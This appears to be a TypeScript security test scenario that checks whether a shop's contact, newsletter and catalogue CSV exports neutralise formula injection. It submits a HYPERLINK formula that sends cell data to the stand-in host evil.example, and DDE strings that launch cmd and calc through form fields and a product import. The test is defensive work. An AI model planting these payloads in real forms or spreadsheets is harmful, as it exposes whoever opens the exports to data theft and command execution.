/**
 * Issue 43, finding 8: cells typed by anonymous visitors (the contact form, the newsletter
 * signup) and product fields (a catalogue import by an editor) come out of the owner's CSV
 * exports as formulas. Every cell starting with = + - @, a tab or a carriage return must be
 * neutralised (OWASP).
 */
import { type Check, check, type Scenario } from '../scenario.ts';
import { Shopper } from '../shopper.ts';

const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
/** RFC 4180 CSV as rows of cells (quotes doubled inside quoted cells). */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const character = text[at] as string;
    if (quoted) {
      if (character === '"' && text[at + 1] === '"') {
        cell += '"';
        at++;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      row.push(cell);
      cell = '';
    } else if (character === '\n' || (character === '\r' && text[at + 1] === '\n')) {
      if (character === '\r') at++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += character;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const formulaCells = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

export const csvExports: Scenario = {
  id: 'csv-exports',
  title: 'CSV formula injection into the inbox, newsletter and catalogue exports',
  async run(context) {
    const checks: Check[] = [];
    const visitor = new Shopper(context.front, 'northbridge-gb', context.stack, '127.0.0.44');
    const contact = await visitor.api('POST', '/api/customerservice', {
      name: formula,
      email: 'visitor@probe.example',
      subject: '@SUM(1+1)*cmd|" /C calc"!A0',
      message: '\t-2+3+cmd|" /C calc"!A0',
    });
    const signup = await visitor.api('POST', '/api/users/newsletter/northbridge-newsletter', {
      email: `fan-${Date.now()}@probe.example`,
      firstName: '+cmd|" /C calc"!A0',
      termsId: 'terms',
    });
    const exportOf = async (path: string) => {
      const answer = await context.cast.root.api('GET', `/sites/northbridge-gb/${path}`);
      const rows = answer.status === 200 ? parse(answer.body) : [];
      return {
        status: answer.status,
        rows,
        found: answer.body.includes('evil.example') || answer.body.includes('calc'),
      };
    };
    const inbox = await exportOf('contact-messages?format=csv&pageSize=100');
    const newsletter = await exportOf('newsletter-signups?format=csv&pageSize=100');
    checks.push(
      check(
        "contact form cells (anonymous) in the owner's inbox CSV: no formula",
        contact.status === 200 && inbox.found && formulaCells(inbox.rows).length === 0,
        `sent ${contact.status}; export ${inbox.status}, ${inbox.rows.length} rows, formulas: ${JSON.stringify(formulaCells(inbox.rows)).slice(0, 200)}`,
      ),
    );
    checks.push(
      check(
        'newsletter signup cells (anonymous) in the newsletter CSV: no formula',
        signup.status === 200 && newsletter.found && formulaCells(newsletter.rows).length === 0,
        `sent ${signup.status} ${signup.status === 200 ? '' : signup.body.slice(0, 120)}; export ${newsletter.status}, ${newsletter.rows.length} rows, formulas: ${JSON.stringify(formulaCells(newsletter.rows)).slice(0, 200)}`,
      ),
    );

    const file = [
      'Handle,Title,Body (HTML),Vendor,Type,Tags,Published,Variant SKU,Variant Price,Variant Inventory Qty',
      `probe-formula,"${formula.replaceAll('"', '""')}",-20 % off,@vendor,Shirts,"-sale, =1+1",true,PROBE-1,19.00,5`,
    ].join('\n');
    const imported = await context.cast.editor.api(
      'POST',
      '/sites/northbridge-gb/import/catalogue?format=csv',
      file,
      {
        'content-type': 'text/csv',
      },
    );
    const catalogue = await exportOf('export/catalogue?format=csv');
    const product = catalogue.rows.find((row) => row[0] === 'probe-formula');
    checks.push(
      check(
        'product fields in the catalogue CSV export: no formula',
        imported.status === 200 && product !== undefined && formulaCells(catalogue.rows).length === 0,
        `import ${imported.status}; export ${catalogue.status}, product ${product ? `title ${JSON.stringify(product[1])}` : 'missing'}, formulas: ${formulaCells(catalogue.rows).length}`,
      ),
    );
    return checks;
  },
};
